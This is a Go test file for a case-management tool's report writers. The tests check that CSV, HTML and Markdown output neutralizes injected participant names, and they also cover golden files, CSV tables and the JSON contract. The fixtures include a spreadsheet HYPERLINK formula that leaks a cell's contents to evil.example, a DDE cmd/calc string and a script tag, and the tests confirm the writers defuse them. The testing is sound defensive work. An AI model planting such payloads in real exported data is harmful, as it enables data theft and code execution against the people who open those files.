package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/caseplan/caseplan/pkg/casefile"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/golden from what the writers print")

// TestGolden renders the fixture's October report, its caseload on
// 2026-10-31 and bob's caseload alone (--manager bob) in every format and compares them with testdata/golden.
// Regenerate with go test ./pkg/report -update, and read the diff.
func TestGolden(t *testing.T) {
	snap := fixtureSnapshot(t)
	monthly := BuildMonthly(snap, fixtureMonth, fixtureSource, false)
	caseload := BuildCaseload(snap, time.Date(2026, 10, 31, 0, 0, 0, 0, time.UTC), fixtureSource, false)
	bob := AssembleManagerCaseload(snap.Config, time.Date(2026, 10, 31, 0, 0, 0, 0, time.UTC), fixtureSource, false, caseload.Cases, "bob")
	ext := map[string]string{"text": "txt", "md": "md", "html": "html", "csv": "csv", "json": "json"}
	for _, format := range Formats {
		w, err := NewWriter(format)
		if err != nil {
			t.Fatal(err)
		}
		for name, render := range map[string]func(*bytes.Buffer) error{
			"monthly":      func(b *bytes.Buffer) error { return w.Monthly(b, monthly) },
			"caseload":     func(b *bytes.Buffer) error { return w.Caseload(b, caseload) },
			"caseload-bob": func(b *bytes.Buffer) error { return w.Caseload(b, bob) },
		} {
			t.Run(name+"."+format, func(t *testing.T) {
				var b bytes.Buffer
				if err := render(&b); err != nil {
					t.Fatal(err)
				}
				golden(t, filepath.Join("testdata", "golden", name+"."+ext[format]), b.Bytes())
			})
		}
	}
	if _, err := NewWriter("pdf"); err == nil {
		t.Error("NewWriter(pdf): no error")
	}
}

func golden(t *testing.T, path string, got []byte) {
	t.Helper()
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./pkg/report -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from what the writer prints (go test ./pkg/report -update rewrites it):\n%s", path, firstDiff(string(want), string(got)))
	}
}

func firstDiff(want, got string) string {
	wl, gl := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := 0; i < len(wl) || i < len(gl); i++ {
		var w, g string
		if i < len(wl) {
			w = wl[i]
		}
		if i < len(gl) {
			g = gl[i]
		}
		if w != g {
			return "line " + itoa(i+1) + ":\n  want: " + w + "\n  got:  " + g
		}
	}
	return ""
}

// hostile names a participant the way an attacker would, to check that
// no writer lets a record's text act as a formula, markup or a table cell.
func hostile(t *testing.T) (*Monthly, *Caseload) {
	t.Helper()
	snap := fixtureSnapshot(t)
	snap.Case("WS-A").Intake.Participant.Name = `=HYPERLINK("https://evil.example/?x="&A1,"open")`
	snap.Case("WS-B").Intake.Participant.Name = "<script>alert(1)</script> | *bold*"
	snap.Case("WS-K").Intake.Participant.Name = "+1 555-0100"
	snap.Case("W-E").Intake.Participant.Name = "-2+3"
	snap.Case("W-F").Intake.Participant.Name = "\tTab Example"
	snap.Case("W-L").Intake.Participant.Name = "\rCarriage Example"
	day := time.Date(2026, 10, 31, 0, 0, 0, 0, time.UTC)
	return BuildMonthly(snap, fixtureMonth, fixtureSource, true), BuildCaseload(snap, day, fixtureSource, true)
}

func TestCSVNeutralizesFormulas(t *testing.T) {
	m, c := hostile(t)
	for name, render := range map[string]func(*bytes.Buffer) error{
		"monthly":  func(b *bytes.Buffer) error { return csvWriter{}.Monthly(b, m) },
		"caseload": func(b *bytes.Buffer) error { return csvWriter{}.Caseload(b, c) },
	} {
		var b bytes.Buffer
		if err := render(&b); err != nil {
			t.Fatal(err)
		}
		if !bytes.HasSuffix(b.Bytes(), []byte("\r\n")) {
			t.Errorf("%s: RFC 4180 lines end in CRLF", name)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatalf("%s: not CSV: %v", name, err)
		}
		participant := map[string]string{}
		for _, row := range rows[1:] {
			participant[row[2]] = row[3]
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !number.MatchString(cell) {
					t.Errorf("%s: cell %q can run as a formula", name, cell)
				}
			}
		}
		for id, want := range map[string]string{
			"WS-A": `'=HYPERLINK("https://evil.example/?x="&A1,"open")`,
			"WS-K": "'+1 555-0100",
			"W-E":  "'-2+3",
			"W-F":  "'\tTab Example",
			// encoding/csv drops a lone CR when it writes CRLF line ends.
			"W-L": "'Carriage Example",
		} {
			if participant[id] != want {
				t.Errorf("%s: %s participant %q, want %q", name, id, participant[id], want)
			}
		}
	}
	// Plain numbers stay numbers: days left, overdue counts.
	for _, cell := range []string{"-3", "0", "242", "-0.5"} {
		if got := Neutralize(cell); got != cell {
			t.Errorf("Neutralize(%q) = %q", cell, got)
		}
	}
	for _, cell := range []string{"-", "-3+cmd", "@SUM(A1)", "=1", "+", "-1e3"} {
		if got := Neutralize(cell); got != "'"+cell {
			t.Errorf("Neutralize(%q) = %q", cell, got)
		}
	}
}

var externalRef = regexp.MustCompile(`(?i)(src|href|xlink:href|url\()\s*=?\s*["']?\s*(https?:)?//`)

func TestHTMLIsSelfContained(t *testing.T) {
	m, c := hostile(t)
	for name, render := range map[string]func(*bytes.Buffer) error{
		"monthly":  func(b *bytes.Buffer) error { return htmlWriter{}.Monthly(b, m) },
		"caseload": func(b *bytes.Buffer) error { return htmlWriter{}.Caseload(b, c) },
	} {
		var b bytes.Buffer
		if err := render(&b); err != nil {
			t.Fatal(err)
		}
		page := b.String()
		if n := strings.Count(page, "<svg "); n < 2 {
			t.Errorf("%s: %d inline SVG charts, want 2", name, n)
		}
		if !strings.Contains(page, "<style>") {
			t.Errorf("%s: no inline style", name)
		}
		for _, banned := range []string{"<script", "<link", "<img", "<iframe", "@import"} {
			if strings.Contains(page, banned) {
				t.Errorf("%s: contains %s", name, banned)
			}
		}
		if loc := externalRef.FindStringIndex(page); loc != nil {
			t.Errorf("%s: refers to something outside the page: %q", name, page[loc[0]:loc[1]])
		}
		if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
			t.Errorf("%s: the participant's name is not escaped", name)
		}
	}
	// The fixture's own pages name no address at all, not even the SVG
	// namespace (inline SVG in HTML needs none).
	snap := fixtureSnapshot(t)
	var b bytes.Buffer
	if err := (htmlWriter{}).Monthly(&b, BuildMonthly(snap, fixtureMonth, fixtureSource, false)); err != nil {
		t.Fatal(err)
	}
	if s := b.String(); strings.Contains(s, "http://") || strings.Contains(s, "https://") {
		t.Error("the monthly page contains an http:// or https:// address")
	}
}

func TestMarkdownEscapesCells(t *testing.T) {
	m, _ := hostile(t)
	var b bytes.Buffer
	if err := (markdownWriter{}).Monthly(&b, m); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `&lt;script&gt;alert(1)&lt;/script&gt; \| \*bold\*`) {
		t.Error("a participant's name is not escaped in the Markdown table")
	}
	for _, line := range strings.Split(b.String(), "\n") {
		if strings.HasPrefix(line, "| WS-B ") && strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") != 13 {
			t.Errorf("row broken into other cells: %s", line)
		}
	}
}

// The JSON summary has exactly the keys of the contract, among others.
func TestJSONContract(t *testing.T) {
	var b bytes.Buffer
	if err := (jsonWriter{}).Monthly(&b, BuildMonthly(fixtureSnapshot(t), fixtureMonth, fixtureSource, false)); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Commit  string                     `json:"commit"`
		Summary map[string]json.RawMessage `json:"summary"`
		Cases   []map[string]any           `json:"cases"`

		Managers []map[string]any `json:"managers"`
		Programs []map[string]any `json:"programs"`
	}
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"open_at_start", "open_at_end", "opened", "closed", "placed", "contacts", "contact_compliance", "overdue_contacts", "extensions_requested", "extensions_approved", "extensions_refused", "applications", "interviews"} {
		if _, ok := doc.Summary[k]; !ok {
			t.Errorf("summary has no %q", k)
		}
	}
	// Each manager's and each program's section counts the extensions
	// as the summary does.
	for section, rows := range map[string][]map[string]any{"managers": doc.Managers, "programs": doc.Programs} {
		for i, m := range rows {
			for _, k := range []string{"extensions_requested", "extensions_approved", "extensions_refused"} {
				if _, ok := m[k]; !ok {
					t.Errorf("%s[%d] has no %q", section, i, k)
				}
			}
		}
	}
	if doc.Commit != fixtureSource.Commit {
		t.Errorf("commit %q", doc.Commit)
	}
	if len(doc.Cases) == 0 || doc.Cases[0]["id"] != "P-H" {
		t.Errorf("cases[0] = %v", doc.Cases)
	}
}

func TestNeutralizeMore(t *testing.T) {
	for in, want := range map[string]string{
		" =1+1":                    "' =1+1",
		"\u00a0=cmd|' /C calc'!A0": "'\u00a0=cmd|' /C calc'!A0",
		"  @SUM(A1)":               "'  @SUM(A1)",
		"＝1+1":                     "'＝1+1",
		"＋1 555-0100":              "'＋1 555-0100",
		"－2":                       "'－2",
		"＠SUM(A1)":                 "'＠SUM(A1)",
		"\n=1":                     "'\n=1",
		" -3":                      " -3", // a number after a space is still a number
		"Muñoz":                    "Muñoz",
		"a = b":                    "a = b",
		" plain":                   " plain",
		"-3":                       "-3",
	} {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVTables: every table of a report is there as CSV, each row led by
// the month (or day) and the commit, and --bom starts the file with the
// UTF-8 byte order mark Excel needs.
func TestCSVTables(t *testing.T) {
	snap := fixtureSnapshot(t)
	monthly := BuildMonthly(snap, fixtureMonth, fixtureSource, false)
	caseload := BuildCaseload(snap, time.Date(2026, 10, 31, 0, 0, 0, 0, time.UTC), fixtureSource, false)
	for _, tt := range []struct {
		report, table string
		header        string
		rows          int
	}{
		{"monthly", "summary", "month,commit,figure,value,remark", len(summaryLines(monthly)) + 4}, // a joined line is a row a part
		{"monthly", "weeks", "month,commit,week,from,to,contacts", len(monthly.ContactsByWeek)},
		{"monthly", "managers", "month,commit,manager,name,caseload,opened,closed,placed,contacts,compliance,overdue_contacts,overdue_items,applications,interviews,extensions_requested,extensions_approved,extensions_refused", len(monthly.Managers)},
		{"monthly", "programs", "month,commit,program,kind,open_at_start,open_at_end,opened,reopened,closed,placed,contacts,compliance,overdue_contacts,applications,interviews,extensions_requested,extensions_approved,extensions_refused", len(monthly.Programs)},
		{"monthly", "cases", "month,commit,id,participant", len(monthly.Cases)},
		{"caseload", "managers", "as_of,commit,manager,name,program,open,overdue_contacts,overdue_items,cases_with_overdue_items", len(caseloadManagerTable(caseload).rows)},
		{"caseload", "programs", "as_of,commit,program,kind,open,overdue_contacts,overdue_items,cases_with_overdue_items", len(caseload.Programs) + 1},
		{"caseload", "phases", "as_of,commit,manager,name,open,notification,work-security,placed,assessment,goal-setting,follow-up", len(caseload.Managers) + 1},
		{"caseload", "", "as_of,commit,id,participant", len(caseload.Cases)},
	} {
		for _, withBOM := range []bool{false, true} {
			var b bytes.Buffer
			w := NewCSV(CSVOptions{Table: tt.table, BOM: withBOM})
			var err error
			if tt.report == "monthly" {
				err = w.Monthly(&b, monthly)
			} else {
				err = w.Caseload(&b, caseload)
			}
			if err != nil {
				t.Fatal(err)
			}
			data := b.Bytes()
			if got := bytes.HasPrefix(data, []byte("\xef\xbb\xbf")); got != withBOM {
				t.Errorf("%s %s: BOM %v, want %v", tt.report, tt.table, got, withBOM)
			}
			rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\xef\xbb\xbf")))).ReadAll()
			if err != nil {
				t.Fatalf("%s %s: %v", tt.report, tt.table, err)
			}
			if !strings.HasPrefix(strings.Join(rows[0], ","), tt.header) || len(rows)-1 != tt.rows || tt.rows == 0 {
				t.Errorf("%s %s: header %v, %d rows; want %s..., %d rows", tt.report, tt.table, rows[0], len(rows)-1, tt.header, tt.rows)
			}
			for _, row := range rows[1:] {
				if row[1] != fixtureSource.Commit {
					t.Errorf("%s %s: a row without the commit: %v", tt.report, tt.table, row)
				}
				if len(row) != len(rows[0]) {
					t.Errorf("%s %s: %d cells under %d headers: %v", tt.report, tt.table, len(row), len(rows[0]), row)
				}
			}
		}
	}
	// One manager's caseload: the programs table carries the manager on
	// every row, and its totals row does not say "all", as if the office's.
	bob := AssembleManagerCaseload(snap.Config, time.Date(2026, 10, 31, 0, 0, 0, 0, time.UTC), fixtureSource, false, caseload.Cases, "bob")
	var b bytes.Buffer
	if err := NewCSV(CSVOptions{Table: "programs"}).Caseload(&b, bob); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(rows[0], ","); !strings.HasPrefix(got, "as_of,commit,manager,program,") {
		t.Errorf("bob's programs table: header %s, want as_of,commit,manager,program,...", got)
	}
	for _, row := range rows[1:] {
		if row[2] != "bob" {
			t.Errorf("bob's programs table: a row without the manager: %v", row)
		}
	}
	if last := rows[len(rows)-1]; last[3] != "total" {
		t.Errorf("bob's programs table: totals row %v, want it labelled total", last)
	}
	if err := NewCSV(CSVOptions{Table: "weeks"}).Caseload(&bytes.Buffer{}, caseload); err == nil {
		t.Error("the caseload report has no weeks table, yet it wrote one")
	}
}

// TestCSVSummaryNumbers: the summary's CSV has one figure a row, each
// value a number a spreadsheet can sum (a percentage for compliance), not
// the "2 / 0 / 1" the other formats show, and one row for each figure of
// the report's JSON.
func TestCSVSummaryNumbers(t *testing.T) {
	monthly := BuildMonthly(fixtureSnapshot(t), fixtureMonth, fixtureSource, false)
	c := &monthly.Summary
	c.ExtensionsRequested, c.ExtensionsApproved, c.ExtensionsRefused = 2, 0, 1
	c.FollowUpsDue, c.FollowUpsDone = 3, 2
	var b bytes.Buffer
	if err := NewCSV(CSVOptions{Table: "summary"}).Monthly(&b, monthly); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	number := regexp.MustCompile(`^-?[0-9]+%?$`)
	got := map[string]string{}
	for _, row := range rows[1:] {
		if len(row) != len(rows[0]) {
			t.Errorf("row %v has %d cells, the header %d", row, len(row), len(rows[0]))
			continue
		}
		if !number.MatchString(row[3]) && !(row[2] == "Contact compliance" && row[3] == "none") {
			t.Errorf("%s: value %q is not a number", row[2], row[3])
		}
		got[row[2]] = row[3]
	}
	for figure, want := range map[string]string{
		"Extensions requested": "2", "Extensions approved": "0", "Extensions refused": "1",
		"Follow-ups due": "3", "Follow-ups done": "2",
	} {
		if got[figure] != want {
			t.Errorf("%s: %q, want %q", figure, got[figure], want)
		}
	}
}

// TestHTMLLayout is issue 15's item 9, as far as the markup says it (the
// layout itself was checked in headless Chromium, on a narrow screen and
// printed): IDs, dates and numbers never break, flags are labels that
// wrap only between them, the charts scale to their container, tables
// scroll sideways on a narrow screen, and printing has its own sheet.
func TestHTMLLayout(t *testing.T) {
	var b bytes.Buffer
	if err := (htmlWriter{}).Monthly(&b, BuildMonthly(fixtureSnapshot(t), fixtureMonth, fixtureSource, false)); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, want := range []string{
		"td.nowrap { white-space: nowrap; }",
		".flag { display: inline-block; white-space: nowrap;",
		"figure svg { display: block; width: 100%; height: auto; }",
		".scroll { overflow-x: auto; }",
		"@media print {",
		"@page { size: landscape;",
		`<li class="flag warn" title="no contact within the program&#39;s interval at month end"><span class="sr-only">warning:</span> contact overdue</li>`,
		`<td class="nowrap">WS-A</td>`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page has no %q", want)
		}
	}
	if regexp.MustCompile(`<svg[^>]* width=`).MatchString(page) {
		t.Error("a chart has a fixed width")
	}
	if !regexp.MustCompile(`<svg viewBox="0 0 \d+ \d+"`).MatchString(page) {
		t.Error("a chart has no viewBox to scale by")
	}
}

// TestTextChartFitsALine: an office's weeks of a thousand contacts are
// drawn to scale within textBarMax columns, the scale said above them,
// and a week of a few contacts still shows a bar.
func TestTextChartFitsALine(t *testing.T) {
	snap := fixtureSnapshot(t)
	r := BuildMonthly(snap, fixtureMonth, fixtureSource, false)
	r.ContactsByWeek = []WeekCount{
		{Week: "2026-W44", From: "2026-11-01", To: "2026-11-01", Contacts: 3},
		{Week: "2026-W45", From: "2026-11-02", To: "2026-11-08", Contacts: 1206},
		{Week: "2026-W46", From: "2026-11-09", To: "2026-11-15", Contacts: 0},
	}
	var b bytes.Buffer
	if err := (textWriter{}).Monthly(&b, r); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, "Each # is 25 contacts.\n") {
		t.Errorf("the chart does not say its scale:\n%s", out)
	}
	bars := map[string]int{}
	for _, l := range strings.Split(out, "\n") {
		if f := strings.Fields(l); len(f) > 0 && strings.HasPrefix(f[0], "2026-W4") {
			bars[f[0]] = strings.Count(l, "#")
		}
	}
	if want := map[string]int{"2026-W44": 1, "2026-W45": 49, "2026-W46": 0}; !reflect.DeepEqual(bars, want) {
		t.Errorf("bars = %v, want %v", bars, want)
	}
}

// A report made with records left out says so in itself, in every format
// but CSV (whose rows are the contract of a table), not only on stderr:
// it is read away from the terminal that warned. One made with every
// record read says nothing of it.
func TestReportSaysWhatItLeftOut(t *testing.T) {
	snap := fixtureSnapshot(t)
	short := fixtureSource
	short.Unread = []Unread{{Records: 1}, {Case: "2026-AAAA1", Records: 2}, {Case: "2026-BBBB2", Records: 1}}
	want := "Incomplete: 4 record(s) of cases 2026-AAAA1, 2026-BBBB2 and the store's own files could not be read at this commit and are left out of every figure; caseplan validate shows why."
	day := time.Date(2026, 10, 31, 0, 0, 0, 0, time.UTC)
	for _, src := range []Source{fixtureSource, short} {
		reports := map[string]func(w Writer, b *bytes.Buffer) error{
			"monthly": func(w Writer, b *bytes.Buffer) error {
				return w.Monthly(b, BuildMonthly(snap, fixtureMonth, src, false))
			},
			"caseload": func(w Writer, b *bytes.Buffer) error { return w.Caseload(b, BuildCaseload(snap, day, src, false)) },
			"performance": func(w Writer, b *bytes.Buffer) error {
				return w.Performance(b, BuildPerformance(perfSnapshot(t), perfPeriod(t, 2025, 0), perfDayA, src, false))
			},
		}
		for name, render := range reports {
			for _, format := range []string{"text", "md", "html", "json"} {
				w, err := NewWriter(format)
				if err != nil {
					t.Fatal(err)
				}
				var b bytes.Buffer
				if err := render(w, &b); err != nil {
					t.Fatal(err)
				}
				got := b.String()
				switch format {
				case "json":
					var doc struct {
						Unread []Unread `json:"unread"`
					}
					if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
						t.Fatal(err)
					}
					if !strings.Contains(got, `"unread": [`) || !reflect.DeepEqual(doc.Unread, src.unread()) {
						t.Errorf("%s -o json: unread %v, want %v", name, doc.Unread, src.unread())
					}
				case "md":
					got = strings.ReplaceAll(got, `\'`, "'")
					fallthrough
				default:
					got = strings.ReplaceAll(got, "&#39;", "'")
					if has := strings.Contains(got, want); has != (src.Unread != nil) {
						t.Errorf("%s -o %s: holds %q: %v, want %v", name, format, want, has, src.Unread != nil)
					}
					if src.Unread == nil && strings.Contains(got, "Incomplete") {
						t.Errorf("%s -o %s: says Incomplete with every record read", name, format)
					}
				}
			}
		}
	}
}

// A case manager the roster has retired whose cases are not handed over
// yet is named "NAME (retired)" in both reports' manager tables, in every
// format, as due and validate name them (record.MarkRetired); the JSON of
// both says "retired": true.
func TestRetiredManagerMarked(t *testing.T) {
	snap := fixtureSnapshot(t)
	retired := false
	for i := range snap.Config.Staff {
		if snap.Config.Staff[i].ID == "alice" {
			snap.Config.Staff[i].Active = &retired
		}
	}
	monthly := BuildMonthly(snap, fixtureMonth, fixtureSource, false)
	caseload := BuildCaseload(snap, time.Date(2026, 10, 31, 0, 0, 0, 0, time.UTC), fixtureSource, false)
	if monthly.Managers[0].ID != "alice" || caseload.Managers[0].ID != "alice" || caseload.Managers[0].Open == 0 {
		t.Fatalf("the fixture's first manager is not alice with open cases: %s", js(t, caseload.Managers[0]))
	}
	render := map[string]func(Writer) func(*bytes.Buffer) error{
		"monthly": func(w Writer) func(*bytes.Buffer) error {
			return func(b *bytes.Buffer) error { return w.Monthly(b, monthly) }
		},
		"caseload": func(w Writer) func(*bytes.Buffer) error {
			return func(b *bytes.Buffer) error { return w.Caseload(b, caseload) }
		},
	}
	writers := map[string]Writer{"text": textWriter{}, "md": markdownWriter{}, "html": htmlWriter{}, "csv managers": NewCSV(CSVOptions{Table: "managers"})}
	for report, r := range render {
		for format, w := range writers {
			var b bytes.Buffer
			if err := r(w)(&b); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(b.String(), "Alice Adams (retired)") {
				t.Errorf("%s %s does not name alice retired:\n%s", report, format, b.String())
			}
			if strings.Contains(b.String(), "Bob Brown (retired)") {
				t.Errorf("%s %s names bob, active, retired", report, format)
			}
		}
		var b bytes.Buffer
		if err := r(jsonWriter{})(&b); err != nil {
			t.Fatal(err)
		}
		var out struct {
			Managers []struct {
				ID      string `json:"id"`
				Name    string `json:"name"`
				Retired *bool  `json:"retired"`
			} `json:"managers"`
		}
		if err := json.Unmarshal(b.Bytes(), &out); err != nil {
			t.Fatal(err)
		}
		for _, m := range out.Managers {
			if m.Retired == nil || *m.Retired != (m.ID == "alice") || m.Name != snapName(snap, m.ID) {
				t.Errorf("%s -o json manager %s: retired %v, name %q", report, m.ID, m.Retired, m.Name)
			}
		}
	}
	var b bytes.Buffer
	if err := NewCSV(CSVOptions{Table: "phases"}).Caseload(&b, caseload); err != nil || !strings.Contains(b.String(), "Alice Adams (retired)") {
		t.Errorf("caseload -o csv --table phases: %v\n%s", err, b.String())
	}
}

// snapName is the roster's name of staff id ("" when not on it).
func snapName(snap *casefile.Snapshot, id string) string {
	if s, ok := snap.Config.StaffByID(id); ok {
		return s.Name
	}
	return ""
}
